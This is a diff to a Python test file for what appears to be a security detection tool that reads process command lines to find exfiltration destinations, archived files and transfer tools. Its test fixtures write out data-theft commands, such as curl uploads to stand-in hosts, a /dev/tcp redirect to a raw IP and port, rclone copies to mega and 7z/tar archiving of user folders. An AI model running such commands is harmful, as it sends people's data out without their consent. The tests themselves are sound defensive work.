@@ -43,20 +43,59 @@ def test_an_account_is_a_domains_a_hosts_or_nobodys(host, user, account, domain_
 
 
 @pytest.mark.parametrize(
-    ("command", "destination"),
+    ("command", "destination", "name", "ip"),
     [
-        ("curl -T a.zip https://files.example/in?x=1", "https://files.example/in?x=1"),
-        ("powershell \"$c.UploadFile('http://127.0.0.1:8443/u', $_)\"", "http://127.0.0.1:8443/u"),
-        ("bash -c 'cat x >/dev/tcp/203.0.113.9/4444'", "203.0.113.9:4444"),
-        ("scp -r /data anna@files.example:/in", "anna@files.example:/in"),
-        ("while true; do curl -T a http://files.example/in; done", "http://files.example/in"),
-        ('powershell "$u = \\"https://files.example\\"; iwr $u"', "https://files.example"),
-        ("tar cf a.tar /home", None),
+        ("curl -T a.zip https://files.example/in?x=1", "https://files.example/in?x=1", "files.example", None),
+        ("powershell \"$c.UploadFile('http://127.0.0.1:8443/u', $_)\"", "http://127.0.0.1:8443/u", None, None),
+        ("bash -c 'cat x >/dev/tcp/203.0.113.9/4444'", "203.0.113.9:4444", None, "203.0.113.9"),
+        ("scp -r /data anna@files.example:/in", "anna@files.example:/in", "files.example", None),
+        ("while true; do curl -T a http://files.example/in; done", "http://files.example/in", "files.example", None),
+        ("curl -T a http://203.0.113.9/in", "http://203.0.113.9/in", None, "203.0.113.9"),
+        ('powershell "$u = \\"https://files.example\\"; iwr $u"', "https://files.example", None, None),
+        ("tar cf a.tar /home", None, None, None),
     ],
 )
-def test_the_destination_is_read_from_the_command_line(command, destination):
-    found = facts(make("a", CommandLine=command))
-    assert (found.destination, found.destination_ip, found.connected) == (destination, None, False)
+def test_the_destination_is_read_from_the_command_line(command, destination, name, ip):
+    found = facts(make("a", CommandLine=command, Image=""))
+    assert (found.destination, found.destination_name, found.destination_ip) == (destination, name, ip)
+    assert not found.connected
+
+
+@pytest.mark.parametrize(
+    ("command", "folder", "archive", "archive_path", "source_path"),
+    [
+        (r"7z a C:\t\q.7z C:\Users\anna", None, r"C:\t\q.7z", r"C:\t\q.7z", None),
+        (r"7z a q.7z C:\Users\anna", "C:\\work\\", "q.7z", r"C:\work\q.7z", None),
+        (r"7z a q.7z C:\Users\anna", None, "q.7z", None, None),
+        (r"7z a %TEMP%\q.7z C:\Users\anna", "C:\\work\\", r"%TEMP%\q.7z", None, None),
+        ("tar czf q.tgz /home/anna", "/tmp", "q.tgz", "/tmp/q.tgz", None),
+        ("tar czf ../q.tgz /home/anna", "/tmp", "../q.tgz", None, None),
+        ("curl -T /tmp/q.tgz https://files.example/", None, "/tmp/q.tgz", "/tmp/q.tgz", "/tmp/q.tgz"),
+        ("curl -T q.pdf https://files.example/", "/home/anna", None, None, "/home/anna/q.pdf"),
+        ("curl -T $f https://files.example/", "/home/anna", None, None, None),
+    ],
+)
+def test_what_was_packed_and_sent_is_read_from_the_command_line(command, folder, archive, archive_path, source_path):
+    program = command.split()[0]
+    image = f"C:\\bin\\{program}.exe" if program == "7z" else f"/usr/bin/{program}"
+    found = facts(make("a", CommandLine=command, Image=image, CurrentDirectory=folder))
+    assert (found.archive, found.archive_path, found.source_path) == (archive, archive_path, source_path)
+
+
+@pytest.mark.parametrize(
+    ("command", "families", "directions", "tool"),
+    [
+        ("rclone copy /home/anna mega:up", {"cloud"}, {"upload"}, "rclone"),
+        ("ngrok http 80", {"tunnel"}, {"tunnel"}, "ngrok"),
+        ("python3 -m http.server 8000", {"other", "script", "http client", "share"}, {"offer"}, None),
+        ("curl https://files.example/in", set(), set(), None),
+    ],
+)
+def test_what_the_command_does_tells_its_kind(command, families, directions, tool):
+    found = facts(make("a", CommandLine=command, Image=""))
+    assert found.families <= families
+    assert found.directions == directions
+    assert tool in (None, found.tool)
 
 
 @pytest.mark.parametrize(
